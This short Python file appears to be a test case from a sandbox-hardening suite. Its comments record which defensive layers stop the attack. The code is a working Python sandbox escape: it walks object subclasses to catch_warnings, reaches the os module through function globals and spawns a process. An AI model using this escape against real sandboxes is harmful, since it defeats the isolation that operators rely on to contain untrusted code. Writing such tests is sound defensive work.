# attack: subclass walk
# stops: restrictedpython: "__class__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# ''.__class__.__mro__[-1].__subclasses__() to warnings.catch_warnings, then sys.modules["os"]
for c in "".__class__.__mro__[-1].__subclasses__():
    if c.__name__ == "catch_warnings":
        os = c.__init__.__globals__["sys"].modules["os"]
        print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
